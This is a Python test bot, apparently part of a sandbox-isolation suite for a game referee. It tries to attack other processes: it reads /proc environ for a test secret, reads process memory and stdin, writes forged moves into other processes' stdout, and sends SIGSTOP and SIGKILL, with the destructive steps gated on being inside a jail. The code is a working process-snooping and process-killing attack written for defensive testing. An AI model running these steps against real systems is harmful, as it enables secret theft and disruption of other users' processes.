#!/usr/bin/env python3
"""Attack 4, other processes: spy on them, write to them, stop and kill them.

Usage: processes.py referee=PID mark=WORD [only=environ]

At the first request of every game, for every process it can name (those
listed in /proc, the referee's pid it is told and the 200 pids after it,
where worker processes and the opponent are likely to be), other than
itself:

* reads /proc/PID/environ, looking for PINOCHLE_TEST_SECRET;
* reads /proc/PID/mem at the process's first mapping;
* reads the process's stdin (/proc/PID/fd/0, non-blocking);
* writes a move into its stdout (/proc/PID/fd/1), to answer for it;
* sends it SIGSTOP, then SIGKILL.

The writes and signals run only when the bot sees itself in a PID namespace
of its own (pid 1 is bubblewrap, or a kept jail's game-init): were the jail
missing, they would hit the machine's real processes. ``only=environ`` (for --isolation none) reads the
environment of the referee alone and does nothing else.

Reports ``ATTACK processes seen=N environ=PID,...|- secret=VALUE|none mem=... fd0=... fd1=... stop=... kill=...
jailed=yes|no`` (each list: the pids where the step succeeded, or -).
"""

import os
import signal

from botloop import ARGS, Bot, report, run

SECRET = b"PINOCHLE_TEST_SECRET="


def in_own_pid_namespace():
    try:
        with open("/proc/1/comm") as f:
            return f.read().strip() in ("bwrap", "game-init") and os.getpid() < 100  # a fresh jail's; a kept one's
    except OSError:
        return False


def read_environ(pid):
    with open(f"/proc/{pid}/environ", "rb") as f:
        return f.read()


def read_mem(pid):
    with open(f"/proc/{pid}/maps") as f:
        start = int(f.readline().split("-")[0], 16)
    with open(f"/proc/{pid}/mem", "rb") as f:
        f.seek(start)
        return f.read(64)


def read_stdin(pid):
    fd = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, 4096)
    finally:
        os.close(fd)


def write_stdout(pid, move):
    fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY | os.O_NONBLOCK)
    try:
        return os.write(fd, move.encode())
    finally:
        os.close(fd)


def attempt(step, *args):
    try:
        step(*args)
        return True
    except (OSError, ValueError, IndexError):
        return False


class Processes(Bot):
    name = "processes"

    def on_request(self, decision, legal):
        if self.requests != 1:
            return
        me = os.getpid()
        referee = int(ARGS["referee"])
        if ARGS.get("only") == "environ":
            pids = [referee]
        else:
            listed = [int(p) for p in os.listdir("/proc") if p.isdigit()]
            pids = sorted({*listed, *range(referee, referee + 201)} - {me})
        done = {k: [] for k in ("environ", "mem", "fd0", "fd1", "stop", "kill")}
        secrets = set()
        jailed = in_own_pid_namespace()
        for pid in pids:
            try:
                environ = read_environ(pid)
                done["environ"].append(pid)
                for entry in environ.split(b"\0"):
                    if entry.startswith(SECRET):
                        secrets.add(entry[len(SECRET):].decode(errors="replace"))
            except OSError:
                pass
            if ARGS.get("only") == "environ":
                continue
            if attempt(read_mem, pid):
                done["mem"].append(pid)
            if attempt(read_stdin, pid):
                done["fd0"].append(pid)
            if not jailed:
                continue  # never write to, stop or kill a real process of the machine
            if attempt(write_stdout, pid, legal[0] + "\n"):
                done["fd1"].append(pid)
            if attempt(os.kill, pid, signal.SIGSTOP):
                done["stop"].append(pid)
            if attempt(os.kill, pid, signal.SIGKILL):
                done["kill"].append(pid)
        own = os.environ.get(SECRET.decode()[:-1])
        if own:
            secrets.add(own)
        lists = " ".join(f"{k}={','.join(map(str, v)) or '-'}" for k, v in done.items())
        report("processes", f"seen={len(pids)} secret={','.join(sorted(secrets)) or 'none'} {lists} "
                            f"jailed={'yes' if jailed else 'no'}")


run(Processes())
